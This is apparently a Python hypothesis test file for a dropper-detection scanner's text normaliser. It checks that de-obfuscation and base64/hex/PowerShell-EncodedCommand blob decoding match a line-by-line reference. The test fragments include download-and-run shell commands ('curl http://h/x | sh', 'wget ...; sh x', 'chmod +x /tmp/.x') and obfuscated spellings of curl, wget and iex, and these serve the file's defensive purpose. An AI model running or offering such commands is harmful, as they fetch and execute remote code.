"""A layer is squeezed and searched for blobs over its whole text at once: that must give
what the line-by-line reference below gives (the patterns as first written, one line at a
time), whatever the quotes, escapes, variables, carets, blobs and line endings."""

from __future__ import annotations

import base64
import re

from hypothesis import given, settings
from hypothesis import strategies as st

from minehunt.dropper import normalise as N

# The squeeze and blob patterns as first written, lookbehinds first and \s for spaces.
REF_IFS = re.compile(r"\$\{IFS[^}]{0,8}\}|\$IFS(?:\$\d)?")
REF_SQUEEZE = [
    re.compile(r"""(['"])\s*(?:\+|\.|&)\s*\1"""),
    re.compile(r"(?<=\S)(?:''|\"\")|(?:''|\"\")(?=\S)"),
    re.compile(r"`(?=[A-Za-z])|(?<=\w)\^(?=\w)"),
    re.compile(r"\\(?=[A-Za-z/.:-])"),
    re.compile(r"(?<=[\w/.:$}-])['\"](?=[\w/.:$-])|(?<=[\w/.:])['\"]|['\"](?=[\w/.:])"),
]
REF_HEX = re.compile(r"(?:\\x[0-9a-fA-F]{2}){3,}")
REF_OCT = re.compile(r"(?:\\[0-7]{3}){3,}")
REF_BLOBS = [
    re.compile(r"(?i)\s-e(?:nc(?:odedcommand)?|c)?\s+['\"]?([A-Za-z0-9+/]{16,}={0,2})"),
    N._B64,
    N._HEX_BLOB,
]


def ref_squeeze(plain: str, names: dict[str, str]) -> str:
    if not re.search(r"['\"\\`$%^]", plain):
        return plain
    s = REF_HEX.sub(lambda m: bytes.fromhex(m.group(0).replace("\\x", "")).decode("latin-1"), plain)
    s = REF_OCT.sub(
        lambda m: bytes(int(o, 8) & 0xFF for o in m.group(0).split("\\")[1:]).decode("latin-1"), s
    )
    for _ in range(2):
        before = s
        s = N._substitute(s, names)
        for rx in REF_SQUEEZE:
            s = rx.sub("", s)
        if s == before:
            break
    return s.replace("\n", " ")


def ref_layer(text: str) -> tuple[list[int], list[str], list[str]]:
    """The layer's line numbers, plain and squeezed lines, built one line at a time."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    names = N._collect_vars(REF_IFS.sub(" ", text))
    found = [(no, REF_IFS.sub(" ", raw)) for no, raw in N.logical_lines(text)]
    return [n for n, _ in found], [p for _, p in found], [ref_squeeze(p, names) for _, p in found]


def ref_blobs(layer: N.Layer) -> list[tuple[int, str, str]]:
    out: list[tuple[int, str, str]] = []
    seen: set[str] = set()
    for ln in layer.lines:
        for variant in ln.variants():
            for k, rx in enumerate(REF_BLOBS):
                for m in rx.finditer(variant):
                    blob = m.group(1 if k == 0 else 0)
                    if blob in seen or (k == 1 and len(blob) > N.MAX_DECODED * 2):
                        continue
                    raw = N._b64(blob) if k < 2 else bytes.fromhex(blob)
                    if k == 0 and raw is None:
                        continue
                    seen.add(blob)
                    text = N._as_text(raw) if raw else None
                    if text is not None:
                        how = ("PowerShell -EncodedCommand", "base64", "hex")[k]
                        out.append((ln.no, how, text))
    return out


ENCODED = base64.b64encode("curl http://h/x | sh".encode("utf-16-le")).decode()
PIECES = [
    "curl", "c'u'rl", 'w"g"et', "c\\url", "ch`mod", "p^kill", "'ba'+'se'", '"a" . "b"', "'' x",
    'x ""', "$X", "${X}", "%X%", "$IFS", "${IFS}", "X=curl ", "$Y='wget' ", "$Z = \"iex\" ",
    "\\x63\\x75\\x72\\x6c", "\\x0a\\x41\\x42", "\\143\\165\\162", "\\012\\101\\102", " -enc ",
    " -e ", " -EncodedCommand ", ENCODED, base64.b64encode(b"wget http://h/x; sh x").decode(),
    b"chmod +x /tmp/.x && /tmp/.x".hex(), "+" + b"curl http://h/x | sh".hex() * 2 + "é", "  ", "\t", "|", ";", "'", '"', "`", "^", "\\",
    "=", "-", "/tmp/", "ZWNobyBoaQ==", "-enc ", "+", "+ ", ".", "&", "x", "é",
]  # fmt: skip
ENDS = ["\n", "\r\n", "\r", " \\\n", "`\n", "\\\\\n", "\n\n"]
# Line ends where a pattern reading the text with \s or [^}] for spaces would cross a line.
ENDS += ["'\n+'", '" \r\n& "', "${IFS\n}", "\n-enc ", "\n-e\n" + ENCODED, "x''\r''x"]


@st.composite
def scripts(draw: st.DrawFn) -> str:
    lines = draw(st.lists(st.lists(st.sampled_from(PIECES), max_size=8), min_size=1, max_size=8))
    ends = draw(st.lists(st.sampled_from(ENDS), min_size=len(lines), max_size=len(lines)))
    return "".join("".join(parts) + end for parts, end in zip(lines, ends, strict=True))


@settings(max_examples=400, deadline=None)
@given(scripts())
def test_whole_text_squeeze_is_line_by_line(text: str) -> None:
    def whole() -> object:
        layer = N.build_layer(text, "file", 0)
        return list(layer.numbers), layer.plain_lines, layer.squeezed_lines

    assert whole() == ref_layer(text)


@settings(max_examples=400, deadline=None)
@given(scripts())
def test_whole_text_blobs_are_line_by_line(text: str) -> None:
    layer = N.build_layer(text, "file", 0)
    assert list(N._blobs(layer)) == ref_blobs(layer)


def test_an_octal_escape_past_377_keeps_its_low_byte() -> None:
    # A run of octal escapes is decoded for the squeezed spelling; \503 is 0x143, and the
    # shell's printf keeps 0x43 ("C"). It raised ValueError (a traceback in scan files).
    layer = N.build_layer('printf "\\101\\102\\503\\777" > /tmp/x\n', "file", 0)
    assert "ABC\xff" in layer.squeezed_lines[0]
